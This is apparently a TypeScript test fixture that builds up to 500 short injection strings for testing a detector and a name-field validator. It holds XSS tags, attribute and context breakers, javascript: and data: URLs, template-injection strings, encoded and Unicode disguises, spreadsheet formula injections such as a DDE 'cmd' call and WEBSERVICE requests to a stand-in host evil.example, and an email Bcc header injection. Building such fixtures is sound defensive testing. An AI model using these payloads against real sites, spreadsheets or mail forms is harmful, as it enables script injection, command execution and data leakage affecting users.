// Five hundred distinct texts made to run in a page, a mail or a spreadsheet. None is longer than a name may be.

/** The code that would run; `x()` is the function of the detector. */
const scripts = ['x()', 'alert(1)', 'top.x()', 'x`1`', 'window[`x`]()'] as const

const tags = (script: string) => [
  `<script>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `<img src=1 onerror=${script}>`,
  `<img/src/onerror=${script}>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script>`,
  `<body onload=${script}>`,
  `<iframe srcdoc="<script>${script}">`,
  `<iframe src=javascript:${script}>`,
  `<a href=javascript:${script}>click</a>`,
  `<details open ontoggle=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<video><source onerror=${script}>`,
  `<audio src onerror=${script}>`,
  `<marquee onstart=${script}>`,
  `<object data=javascript:${script}>`,
  `<embed src=javascript:${script}>`,
  `<math href=javascript:${script}>m</math>`,
  `<style onload=${script}></style>`,
  `<link rel=x onerror=${script}>`,
  `<p onclick=${script}>p`,
  `<x style=animation:a onanimationend=${script}>`,
  `<button popovertarget=p onclick=${script}>`,
  `<select autofocus onfocus=${script}>`,
]

const breakers = (script: string) => [
  `"><script>${script}</script>`,
  `'><script>${script}</script>`,
  `" onmouseover=${script} x="`,
  `' onfocus=${script} autofocus '`,
  `--><script>${script}</script>`,
  `]]><script>${script}</script>`,
  `</title><script>${script}</script>`,
  `</textarea><script>${script}</script>`,
  `</script><script>${script}</script>`,
  `</style><img src=1 onerror=${script}>`,
  `</noscript><svg onload=${script}>`,
  `';${script}//`,
  `";${script}//`,
  `\\';${script}//`,
  `\`+${script}+\``,
  `});${script};({`,
]

const urls = (script: string) => [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  `javascript://%0a${script}`,
  `data:text/html,<script>${script}</script>`,
  `vbscript:${script}`,
  `java&#10;script:${script}`,
  `//evil.example/?${script}`,
]

const templates = (script: string) => [
  `{{${script}}}`,
  `\${${script}}`,
  `<%= ${script} %>`,
  `#{${script}}`,
  `{{constructor.constructor('${script}')()}}`,
  `[[${script}]]`,
  `{%${script}%}`,
  `$(${script})`,
]

const disguises = (script: string) => [
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `&#60;script&#62;${script}&#60;/script&#62;`,
  `%3Cscript%3E${script}%3C/script%3E`,
  `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  `＜script＞${script}＜/script＞`,
  `‹script›${script}‹/script›`,
  `<scr\u200bipt>${script}</script>`,
  `<\u00adscript>${script}</script>`,
  `<script\u2063>${script}</script>`,
  `<<script>${script}//<</script>`,
  `<script/x>${script}</script>`,
  `<script src=//evil.example/${script}>`,
  `<img src=//evil.example/${script}>`,
  `<link rel=stylesheet href=//evil.example/${script}>`,
  `<meta http-equiv=refresh content=0;//evil.example>${script}`,
  `<base href=//evil.example/>${script}`,
  `<form action=//evil.example/><button>${script}`,
  `مرحبا<script>${script}</script>`,
  `שלום<img src=1 onerror=${script}>`,
]

/** Cells that a spreadsheet would evaluate; some spreadsheets treat the full-width signs as plain ones. */
export const formulas = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("//evil.example","x")',
  '=IMPORTXML("//evil.example","//a")',
  '=WEBSERVICE("//evil.example")',
  '+1+1',
  '+cmd|"/c calc"!A1',
  '-1+1',
  '-2+3+cmd|"/c calc"!A1',
  '@SUM(1+1)',
  '@evil',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=1+1;"x"',
  '"=1+1"',
  '=1,=2',
  "'=1+1",
  ';=1+1',
]

/** Texts that reverse the writing direction or are not valid text: the form must refuse them. */
export const refusedPayloads = [
  '\u202e<script>x()</script>',
  '\u2066<img src=1 onerror=x()>',
  '\u202atxt.exe',
  'Rosa\u2028x()',
  'Rosa\u2029x()',
  '<scr\u0000ipt>x()</script>',
  'Rosa\r\nBcc: evil@example.com',
  'Rosa\n<script>x()</script>',
  'Ro\u001bsa',
  'Ro\ud800sa',
]

const longest = 60

export const payloads: readonly string[] = [
  ...new Set([
    ...scripts.flatMap((script) =>
      [tags, breakers, urls, templates, disguises].flatMap((kind) => kind(script)),
    ),
    ...scripts.flatMap((script) => tags(script).map((tag) => `Rosa ${tag}`)),
    ...formulas,
  ]),
]
  .filter((text) => text.length <= longest)
  .slice(0, 500)
